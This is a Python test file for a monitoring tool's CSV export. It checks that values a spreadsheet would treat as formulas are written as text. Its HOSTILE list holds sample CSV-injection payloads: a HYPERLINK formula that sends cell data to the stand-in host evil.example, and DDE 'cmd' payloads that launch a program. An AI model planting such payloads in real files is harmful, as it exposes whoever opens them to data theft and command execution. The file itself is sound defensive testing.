"""The at-risk CSV export (issue 11 Low): a computer name is attacker-chosen (anyone can name a
laptop), and the list is opened in a spreadsheet by an administrator. A cell that a spreadsheet
would read as a formula is written with a leading single quote, so it stays text."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

from client_monitor.domain.listing import COLUMNS
from client_monitor.entrypoints.exports import _csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def row(computer_name: str, **fields: Any) -> dict[str, Any]:
    base = dict.fromkeys(COLUMNS, "")
    return base | {"uniqueId": "C1", "computerName": computer_name, "daysOffline": 3} | fields


async def export(rows: list[dict[str, Any]]) -> list[dict[str, str]]:
    async def source() -> AsyncIterator[dict[str, Any]]:
        for r in rows:
            yield r

    text = "".join([chunk async for chunk in _csv(source())])
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_a_computer_name_a_spreadsheet_would_run_is_written_as_text() -> None:
    written = await export([row(name) for name in HOSTILE])
    assert [r["computerName"] for r in written] == ["'" + name for name in HOSTILE]


async def test_every_text_column_is_neutralised_and_ordinary_values_are_left_alone() -> None:
    hostile = row("laptop-1", groupFullPathName="=cmd()", profileSerialNo="@x", uniqueId="+1")
    ordinary = row("laptop-2", groupFullPathName="My Company\\Default", daysOffline=-1)
    first, second = await export([hostile, ordinary])
    assert (first["groupFullPathName"], first["profileSerialNo"], first["uniqueId"]) == (
        "'=cmd()",
        "'@x",
        "'+1",
    )
    assert first["computerName"] == "laptop-1"
    # Numbers are not formulas: a count stays a number the spreadsheet can sum.
    assert second["groupFullPathName"] == "My Company\\Default"
    assert second["daysOffline"] == "-1"
